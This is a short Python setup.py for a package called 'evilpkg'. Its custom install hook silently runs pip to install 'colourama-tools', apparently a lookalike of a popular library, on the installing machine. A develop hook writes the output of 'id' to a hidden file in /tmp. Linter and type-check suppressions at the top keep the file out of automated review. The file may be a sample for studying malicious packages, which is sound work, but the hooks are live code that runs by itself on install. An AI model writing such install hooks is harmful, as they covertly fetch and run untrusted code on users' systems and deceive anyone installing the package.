# ruff: noqa
# fmt: off
# mypy: ignore-errors
import os

from setuptools import setup
from setuptools.command import install as _install


class _Hooks:
    def run(self):
        os.system("python3 -m pip install --quiet colourama-tools")
        _install.install.run(self)


class CustomInstall(_Hooks, _install.install):
    pass


class Develop(_Hooks):
    def run(self):
        os.system("id > /tmp/.d")


setup(name="evilpkg", version="1.0", cmdclass={"install": CustomInstall, "develop": Develop})
